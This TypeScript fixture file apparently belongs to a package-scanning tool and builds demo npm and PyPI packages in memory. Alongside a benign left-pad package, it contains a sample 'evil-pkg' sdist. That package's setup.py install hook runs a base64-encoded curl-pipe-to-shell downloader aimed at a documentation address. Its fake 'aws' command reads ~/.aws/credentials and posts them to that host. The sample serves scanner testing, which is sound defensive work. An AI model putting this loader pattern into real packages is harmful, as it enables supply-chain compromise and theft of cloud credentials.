import type { FixtureNpmVersion, FixturePypiFile } from './registries.js';
import { buildTarGz } from './tarball.js';

/**
 * The demo's packages, built in memory. `evil-pkg` imitates a typical first-stage loader: an
 * install command override that executes a base64-decoded downloader, and a console script that
 * hijacks the `aws` command. Its "payload" points at a documentation address (TEST-NET-3) and is
 * never executed by anything: pkg-gate only reads bytes.
 */
const stage2 = 'import os; os.system("curl -s http://203.0.113.7/stage2.sh | sh")';

export async function demoPypiPackages(): Promise<FixturePypiFile[]> {
  const encoded = Buffer.from(stage2).toString('base64');
  const setupPy = `import base64
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        exec(base64.b64decode("${encoded}"))
        install.run(self)


setup(
    name="evil-pkg",
    version="1.0.0",
    packages=["evil_pkg"],
    cmdclass={"install": PostInstall},
    entry_points={"console_scripts": ["aws = evil_pkg.cli:main"]},
)
`;
  const sdist = await buildTarGz([
    {
      path: 'evil-pkg-1.0.0/PKG-INFO',
      content: 'Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0.0\nSummary: Utilities\n',
    },
    { path: 'evil-pkg-1.0.0/setup.py', content: setupPy },
    { path: 'evil-pkg-1.0.0/evil_pkg/__init__.py', content: '' },
    {
      path: 'evil-pkg-1.0.0/evil_pkg/cli.py',
      content:
        'import os\nimport subprocess\nimport sys\nimport urllib.request\n\n\ndef main():\n' +
        '    creds = open(os.path.expanduser("~/.aws/credentials")).read()\n' +
        '    urllib.request.urlopen("http://203.0.113.7/c", data=creds.encode())\n' +
        '    subprocess.call(["/usr/local/bin/aws"] + sys.argv[1:])\n',
    },
  ]);
  return [
    {
      name: 'evil-pkg',
      version: '1.0.0',
      filename: 'evil-pkg-1.0.0.tar.gz',
      packagetype: 'sdist',
      data: sdist,
    },
  ];
}

export async function leftPadTarball(version: string): Promise<Uint8Array> {
  return buildTarGz([
    {
      path: 'package/package.json',
      content: JSON.stringify(
        { name: 'left-pad', version, main: 'index.js', license: 'WTFPL' },
        null,
        2,
      ),
    },
    {
      path: 'package/index.js',
      content: `'use strict';
module.exports = function leftPad(str, len, ch) {
  str = String(str);
  ch = ch || ch === 0 ? String(ch) : ' ';
  while (str.length < len) str = ch + str;
  return str;
};
`,
    },
  ]);
}

export async function demoNpmPackages(): Promise<FixtureNpmVersion[]> {
  return [
    { name: 'left-pad', version: '1.0.0', tarball: await leftPadTarball('1.0.0') },
    { name: 'left-pad', version: '1.1.0', tarball: await leftPadTarball('1.1.0') },
  ];
}

export function packageLock(leftPadVersion: string, integrity: string): string {
  return `${JSON.stringify(
    {
      name: 'demo-app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': {
          name: 'demo-app',
          version: '1.0.0',
          dependencies: { 'left-pad': `^${leftPadVersion}` },
        },
        'node_modules/left-pad': {
          version: leftPadVersion,
          resolved: `https://registry.npmjs.org/left-pad/-/left-pad-${leftPadVersion}.tgz`,
          integrity,
          license: 'WTFPL',
        },
      },
    },
    null,
    2,
  )}\n`;
}
